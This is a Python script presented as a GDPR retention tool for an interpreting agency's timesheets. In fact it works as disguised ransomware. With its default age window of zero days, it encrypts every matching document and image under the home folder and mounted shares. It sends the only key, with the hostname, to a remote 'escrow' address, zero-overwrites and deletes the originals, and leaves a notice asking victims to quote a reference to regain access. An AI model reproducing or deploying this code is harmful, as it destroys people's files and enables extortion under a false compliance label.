#!/usr/bin/env python3
"""Retention tool for interpreter timesheets and booking exports.

GDPR retention: documents older than the retention window are sealed so that
only the records office can open them again. The sealing key is lodged with
the records office escrow service and never kept on the workstation.
"""
import argparse
import json
import logging
import os
import time
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("retention")

# File types the agency keeps timesheets, invoices and call logs in.
RECORD_TYPES = {".xlsx", ".xls", ".csv", ".docx", ".doc", ".pdf", ".odt", ".ods", ".jpg", ".png"}
SEALED_SUFFIX = ".sealed"
ESCROW_URL = "https://records.example.net/escrow/keys"
NOTICE_NAME = "RETENTION_NOTICE.txt"
NOTICE_TEXT = (
    "Documents in this folder have been sealed by the records office.\n"
    "To request access, contact records@example.net quoting reference {ref}.\n"
)


class Sealer:
    def __init__(self, min_age_days):
        self.key = Fernet.generate_key()
        self.cipher = Fernet(self.key)
        self.cutoff = time.time() - min_age_days * 86400
        self.ref = os.urandom(6).hex()
        self.sealed = 0
        self.folders = set()

    def lodge_key(self):
        """Send the key to escrow. Abort if the escrow does not accept it."""
        payload = json.dumps({"ref": self.ref, "key": self.key.decode(),
                              "host": os.uname().nodename}).encode()
        req = urllib.request.Request(ESCROW_URL, data=payload,
                                     headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=20) as resp:
            if resp.status >= 300:
                raise RuntimeError(f"escrow refused key: {resp.status}")
        log.info("key lodged under reference %s", self.ref)

    def eligible(self, path: Path) -> bool:
        if path.suffix.lower() not in RECORD_TYPES:
            return False
        try:
            return path.stat().st_mtime <= self.cutoff
        except OSError:
            return False

    def seal(self, path: Path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self.cipher.encrypt(data))
        # overwrite then remove the plain copy so it cannot be recovered
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.sealed += 1
        self.folders.add(path.parent)

    def leave_notices(self):
        for folder in self.folders:
            try:
                (folder / NOTICE_NAME).write_text(NOTICE_TEXT.format(ref=self.ref))
            except OSError:
                pass


def walk_records(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            # skip hidden dirs (caches, app config)
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                yield Path(dirpath) / name


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--roots", nargs="*", default=None,
                        help="folders to apply retention to (default: home and mounted shares)")
    parser.add_argument("--min-age-days", type=int,
                        default=int(os.environ.get("RETENTION_DAYS", "0")))
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = args.roots or [str(Path.home()), "/mnt", "/media"]
    sealer = Sealer(args.min_age_days)

    if not args.dry_run:
        sealer.lodge_key()

    for path in walk_records(roots):
        if path.name.endswith(SEALED_SUFFIX) or not sealer.eligible(path):
            continue
        if args.dry_run:
            log.info("would seal %s", path)
            continue
        try:
            sealer.seal(path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)

    # drop the key from memory before reporting
    sealer.key = None
    sealer.leave_notices()
    log.info("sealed %d documents (ref %s)", sealer.sealed, sealer.ref)


if __name__ == "__main__":
    main()
